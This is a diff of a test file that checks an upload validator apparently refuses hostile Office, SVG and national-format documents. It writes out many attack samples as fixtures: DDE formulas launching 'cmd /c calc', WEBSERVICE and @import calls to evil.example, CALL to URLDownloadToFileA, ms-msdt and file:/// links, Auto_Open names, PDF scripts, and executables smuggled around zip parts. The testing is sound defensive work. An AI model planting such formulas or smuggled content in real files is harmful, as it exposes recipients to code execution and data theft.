@@ -1,9 +1,13 @@
 """Office documents are told by what their parts hold and lead to, never by what those are called."""
 
+import bz2
+import gzip
 import io
+import lzma
 import subprocess
 import zipfile
 from pathlib import Path
+from xml.sax.saxutils import escape
 
 import docx
 import openpyxl
@@ -15,7 +19,7 @@ from docx.oxml.ns import qn
 from collab_portal.lib import uploads
 from collab_portal.lib.gongwen import docx as gongwen_docx
 from tests.gongwen.samples import NOW, notice
-from tests.uploads.samples import OFFICE, RELS, TYPES, Sent, archive, compound, external, office
+from tests.uploads.samples import OFFICE, RELS, TYPES, Sent, archive, compound, external, office, pdf
 
 WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
 STRICT = "http://purl.oclc.org/ooxml/officeDocument/relationships"
@@ -118,6 +122,7 @@ def test_fields_of_other_parts_are_read_too():
 
 
 XML = f'<w:document xmlns:w="{WORD}"><w:altChunk xmlns:r="{OFFICE}" r:id="r1"/></w:document>'
+SVG = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
 HOSTILE = {
     "a piece in another format": (
         related(internal("aFChunk", "/word/a.mht"), word__a_mht="MIME"),
@@ -168,6 +173,29 @@ HOSTILE = {
         office(word__a_xml='<pict xmlns:v="v"><v:imagedata src="http://evil.example/i.png"/></pict>'),
         "外部的图片",
     ),
+    "a drawing that leads to a program": (
+        office(word__a_xml='<pict xmlns:v="v"><v:shape href="file:///c:/x.exe"/></pict>'),
+        "超链接“file:///c:/x.exe”",
+    ),
+    "a drawing that leads to a share": (
+        office(word__a_xml='<pict xmlns:v="v"><v:shape href="\\\\evil\\x"/></pict>'),
+        "超链接",
+    ),
+    "a picture of lines that fetches": (
+        office(word__a_svg=SVG.format('<image xlink:href="http://evil.example/i.png"/>')),
+        "外部的图片",
+    ),
+    "its styles that fetch": (
+        office(word__a_svg=SVG.format("<style>@import 'http://evil.example/a.css';</style>")),
+        "外部的图片",
+    ),
+    "its colours that fetch": (
+        office(word__a_svg=SVG.format('<rect fill="url(http://evil.example/a.svg#b)"/>')),
+        "外部的图片",
+    ),
+    "its script": (office(word__a_svg=SVG.format("<script>alert(1)</script>")), "脚本"),
+    "its script at a click": (office(word__a_svg=SVG.format('<rect onclick="alert(1)"/>')), "脚本"),
+    "an address behind an empty one": (body(field('HYPERLINK "" "file:///c:/x.exe"')), "超链接"),
     "a link that runs": (related(external(" java&#10;script:alert(1)", "hyperlink")), "超链接"),
 }
 
@@ -178,6 +206,176 @@ def test_what_acts_fetches_or_hides_is_named(case):
     name = "材料" + (".xlsx" if b"xl/workbook" in content else ".pptx" if b"ppt/pres" in content else ".docx")
 
     assert word in refusal(content, name)
+
+
+def sheet(formula: str) -> bytes:
+    """A workbook in which something is calculated."""
+    cell = f"<row><c><f>{escape(formula)}</f></c></row>"
+    return office("xlsx", xl__sheet1_xml=f"<worksheet><sheetData>{cell}</sheetData></worksheet>")
+
+
+REACHING = {
+    'WEBSERVICE("http://evil.example/"&A2)': "WEBSERVICE",
+    '_xlfn.WEBSERVICE("http://evil.example/")': "WEBSERVICE",
+    'IF(A1,webservice ("http://evil.example/"))': "WEBSERVICE",
+    '_xlfn._xlws.IMAGE("http://evil.example/x.png")': "IMAGE",
+    'RTD("x.y",,"a")': "RTD",
+    "cmd|'/c calc'!A0": "DDE",
+    "1+'cmd'|'/c calc'!A0": "DDE",
+    'DDE("cmd";"/c calc";"x")': "DDE",
+    'CALL("urlmon","URLDownloadToFileA")': "CALL",
+    'EXEC("calc")': "EXEC",
+    "_xll.Fetch(A1)": "_XLL.FETCH",
+    "'\\\\evil\\x\\[a.xlsx]S'!A1": "断开链接",
+    "'http://evil.example/[a.xlsx]S'!A1": "断开链接",
+    "'C:\\x\\[a.xlsx]S'!A1": "断开链接",
+    'HYPERLINK("file:///c:/windows/system32/calc.exe","看")': "HYPERLINK 指向“file:///",
+    'HYPERLINK("\\\\evil\\x")': "HYPERLINK 指向",
+    'HYPERLINK("fi"&"le:///c:/x")': "HYPERLINK 指向",
+    'HYPERLINK(IF(A1,"https://www.gov.cn/","file:///c:/x"))': "HYPERLINK 指向“file:///c:/x”",
+    'HYPERLINK("ms-msdt:/id")': "HYPERLINK 指向",
+    "1+" * 40_000: "过长",
+}
+
+
+@pytest.mark.parametrize("formula", REACHING, ids=lambda formula: formula[:40])
+def test_a_formula_that_fetches_runs_or_opens_is_named_with_a_way_out(formula):
+    said = refusal(sheet(formula), "统计.xlsx")
+
+    assert REACHING[formula] in said
+    assert "选择性粘贴 → 数值" in said or "断开链接" in said
+
+
+@pytest.mark.parametrize("element", ["definedName", "formula", "formula1", "x:f", "calculatedColumnFormula"])
+def test_it_is_named_wherever_a_workbook_calculates(element):
+    space = {"xl__a_xml": f'<a xmlns:x="x"><{element}>cmd|&apos;/c calc&apos;!A0</{element}></a>'}
+
+    assert "DDE" in refusal(office("xlsx", **space), "统计.xlsx")
+
+
+def test_a_name_that_runs_when_a_book_opens_is_refused():
+    names = '<definedNames><definedName name="_xlnm.Auto_Open">S!A1</definedName></definedNames>'
+
+    assert "宏" in refusal(office("xlsx", **{"xl__workbook.xml": names}), "统计.xlsx")
+
+
+CALCULATING = (
+    *(
+        "SUM(A1:B2)",
+        "SUM(Sheet1:Sheet3!A1)",
+        "'一月 1:三月 2'!A1",
+        "SUM(A:A)/2",
+        "[0]!人次",
+        "表1[甲|乙]+S!A1",
+    ),
+    *(
+        'IF(A1="a|b!","\\\\x","file:///c:/")',
+        'TEXT(A1,"yyyy:mm")&"//"',
+        "VLOOKUP(A1,'[图表]Sheet1'!$A:$B,2,)",
+    ),
+    *('HYPERLINK("https://www.gov.cn/?d="&TEXT(A1,"hh:mm"),"Note: 官网")', 'HYPERLINK("#表!A1","返回")'),
+    *('HYPERLINK("mailto:"&A1)', "HYPERLINK(A2)", 'HYPERLINK("附件/1.docx")', '"WEBSERVICE("', "IMAGES(1)"),
+)
+
+
+@pytest.mark.parametrize("formula", CALCULATING)
+def test_a_formula_that_calculates_or_links_to_the_web_passes(formula):
+    content = sheet(formula)
+
+    assert kept(content, "统计.xlsx") == content
+
+
+OTHERS = {
+    "a PDF with a script": (pdf(b"<</S/JavaScript/JS(app.alert(1))>>"), "PDF"),
+    "a PDF behind a line": (b"x\n" + pdf(), "PDF"),
+    "a packed file (rar)": (b"Rar!\x1a\x07\0", "压缩包"),
+    "a packed file (7z)": (b"7z\xbc\xaf\x27\x1c", "压缩包"),
+    "a packed file (gzip)": (gzip.compress(b"MZ"), "压缩包"),
+    "a packed file (xz)": (lzma.compress(b"MZ"), "压缩包"),
+    "a packed file (bzip2)": (bz2.compress(b"MZ"), "压缩包"),
+    "a packed file (cab)": (b"MSCF\0\0\0\0", "压缩包"),
+    "a text with an object": (b"{\\rtf1\\object\\objdata}", "RTF"),
+    "the same behind blanks": (b" \r\n{\\RT\\object}", "RTF"),
+    "a way to a program": (b"L\0\0\0\x01\x14\x02\0", "快捷方式"),
+    "a way to a share": (b"[InternetShortcut]\r\nURL=file://evil/x", "快捷方式"),
+    "a page": (b"<html><body>x</body></html>", "网页"),
+    "a page as mail": (b"MIME-Version: 1.0\r\n", "网页"),
+    "a book of help": (b"ITSF\3\0\0\0", "CHM"),
+    "a script of a shell": (b"#!/bin/sh\n", "程序"),
+}
+
+
+@pytest.mark.parametrize("name", ["word__embeddings__a_dat", "word__media__image1_png"])
+@pytest.mark.parametrize("case", OTHERS)
+def test_another_file_within_a_document_is_named(case, name):
+    content, word = OTHERS[case]
+
+    assert word in refusal(office(**{name: content}))
+
+
+@pytest.mark.parametrize("name", ["Doc_0/Attachs/a.pdf", "Doc_0/Res/a.dat"])
+def test_another_file_within_the_national_format_is_named(name):
+    assert "PDF" in refusal(archive({"OFD.xml": "<ofd/>", name: pdf()}), "公文.ofd")
+
+
+@pytest.mark.parametrize("target", ["file:///c:/x.exe", "\\\\evil\\x"])
+def test_the_national_format_leads_nowhere_either(target):
+    action = f'<d><Action Event="DO"><URI URI="{target}"/></Action></d>'
+
+    assert "超链接" in refusal(archive({"OFD.xml": "<ofd/>", "Doc_0/Document.xml": action}), "公文.ofd")
+
+
+def test_a_metafile_may_be_packed_as_office_packs_it():
+    content = office(**{"word__media__image1.emz": gzip.compress(b"\x01\0\0\0\x6c\0\0\0" + bytes(99))})
+
+    assert kept(content) == content
+    assert "压缩包" in refusal(office(**{"word__media__image1.emz": gzip.compress(b"MZ" + bytes(99))}))
+
+
+def between(content: bytes, more: bytes) -> bytes:
+    """``more`` between the parts and their directory, which is told where it stands now."""
+    start = content.index(b"PK\x01\x02")
+    moved = content[:start] + more + content[start:]
+    end = moved.rindex(b"PK\5\6")
+    return moved[: end + 16] + (start + len(more)).to_bytes(4, "little") + moved[end + 20 :]
+
+
+MACROS = office(word__vbaProject_bin="x")
+PADDED = {
+    "macros before it": MACROS + office(),
+    "a program before it": b"PK\3\4" + b"MZ" * 500 + office(),
+    "a program behind it": office() + b"MZ" * 500,
+    "a line behind it": office() + b"\n",
+    "a program in its remark": office()[:-2] + b"\4\0MZMZ",
+    "a program between its parts": between(office(), b"MZ" * 500),
+    "a PDF around it": archive({"%PDF-1.4 x": "x", **parts(office())}),
+}
+
+
+@pytest.mark.parametrize("case", PADDED)
+def test_what_lies_before_behind_or_between_is_refused(case):
+    assert "夹带了其他内容" in refusal(PADDED[case])
+
+
+def streamed() -> bytes:
+    """As a program writes it that cannot go back: sums behind the parts."""
+
+    class Stream(io.RawIOBase):
+        def __init__(self) -> None:
+            self.content = b""
+
+        def writable(self) -> bool:
+            return True
+
+        def write(self, content) -> int:
+            self.content += bytes(content)
+            return len(content)
+
+    target = Stream()
+    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as made:
+        for name, content in parts(office()).items():
+            made.writestr(name, content)
+    return target.content
 
 
 LINKS = (
@@ -328,6 +526,13 @@ HONEST = {
     "统计.xlsx": of_excel,
     "汇报.pptx": with_chart,
     "严格.xlsx": lambda: office("xlsx", rels=internal("officeDocument", "xl/workbook.xml", STRICT)),
+    "插图.docx": lambda: office(
+        word__a_svg=SVG.format(
+            '<style>.a{fill:url(#b)}</style><a href="https://www.gov.cn/"><use xlink:href="#b"/></a>'
+            '<image xlink:href="data:image/png;base64,AA=="/><rect style="fill:url(#b)"/>'
+        )
+    ),
+    "流式写出.docx": streamed,
     "空白部件.docx": lambda: office(word__empty_xml=""),
 }
 
